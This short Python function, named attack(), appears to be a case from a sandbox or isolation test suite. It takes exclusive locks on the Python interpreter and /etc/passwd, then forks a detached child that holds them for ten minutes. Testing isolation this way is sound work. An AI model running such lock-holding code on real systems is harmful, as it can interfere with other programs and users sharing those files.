# Holds locks and leases on files that every program sees.
def attack():
    import fcntl
    import posix
    import sys
    import time

    for path in (sys.executable or "/usr/bin/python3", "/etc/passwd"):
        try:
            handle = posix.open(path, posix.O_RDONLY)
            fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            return True
        except OSError:
            continue
        if posix.fork() == 0:
            posix.setsid()
            time.sleep(600)
    return False
